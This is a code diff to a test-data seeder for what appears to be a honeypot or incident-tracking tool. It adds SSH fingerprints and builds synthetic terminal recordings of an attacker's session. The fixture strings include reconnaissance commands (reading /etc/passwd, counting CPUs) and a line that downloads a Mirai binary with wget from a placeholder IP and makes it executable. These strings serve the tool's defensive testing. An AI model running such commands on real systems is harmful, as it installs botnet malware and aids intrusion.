@@ -97,8 +97,11 @@ export async function fillWorld(
     for (const action of actions) await tx.putAction(action);
   });
   await fillResponse(h, incidents, now);
-  for (const incident of incidents.slice(0, 3)) await record(h, incident.sessions[0]!.recording!);
-  for (const session of recordedVisits()) await record(h, session);
+  for (const { sessions, timeline } of incidents.slice(0, 3)) {
+    const login = timeline.find(({ title }) => title.startsWith('Logged in'))!.time;
+    await record(h, sessions[0]!.recording!, login);
+  }
+  for (const session of recordedVisits()) await record(h, session, now);
   return { incidents, actions };
 }
 
@@ -227,17 +230,31 @@ function incidentOf(n: number, now: number): Incident {
     actor: address,
     addresses: [address],
     status: STATUSES[n % STATUSES.length]!,
+    // As the events of this world have it.
+    fingerprints: [
+      { kind: 'hassh', value: '0df0d56bb50c6b2426d8d40234bf1826' },
+      { kind: 'ssh-client', value: 'SSH-2.0-Go' },
+    ],
   });
 }
 
-async function record(h: ApiHarness, recording: string): Promise<void> {
+/** What the attacker of a `sampleIncident` saw: the terminal from their login on. */
+async function record(h: ApiHarness, recording: string, login: number): Promise<void> {
   const writer = await h.blobs.openRecording(recording);
-  const lines = ['{"version":2,"width":80,"height":24}'];
-  const typed =
-    'uname -a\r\nLinux web 6.1.0-31-amd64 #1 SMP x86_64 GNU/Linux\r\nroot@web:~# cat /etc/passwd | head -1\r\nroot:x:0:0:root:/root:/bin/bash\r\nroot@web:~# ';
+  const lines = [JSON.stringify({ version: 2, width: 80, height: 24, timestamp: Math.floor(login / 1000) })];
+  const typed: readonly (readonly [seconds: number, text: string])[] = [
+    [
+      0.4,
+      'uname -a\r\nLinux web 6.1.0-31-amd64 #1 SMP x86_64 GNU/Linux\r\nroot@web:~# cat /etc/passwd | head -1\r\nroot:x:0:0:root:/root:/bin/bash\r\nroot@web:~# ',
+    ],
+    [17, 'uname -a; cat /proc/cpuinfo | grep name | wc -l\r\n2\r\nroot@web:~# '],
+    [71, 'wget http://198.51.100.9/bins/mirai.x86 -O /tmp/.x\r\n/tmp/.x saved\r\nroot@web:~# chmod 777 /tmp/.x\r\n'],
+  ];
   lines.push(JSON.stringify([0.1, 'o', 'root@web:~# ']));
-  let at = 0.4;
-  for (const piece of typed.match(/.{1,6}|\r\n/gs) ?? []) lines.push(JSON.stringify([(at += 0.12), 'o', piece]));
+  for (const [seconds, text] of typed) {
+    let at = seconds;
+    for (const piece of text.match(/.{1,6}|\r\n/gs) ?? []) lines.push(JSON.stringify([(at += 0.06), 'o', piece]));
+  }
   await writer.append(Buffer.from(`${lines.join('\n')}\n`));
   await writer.close();
 }
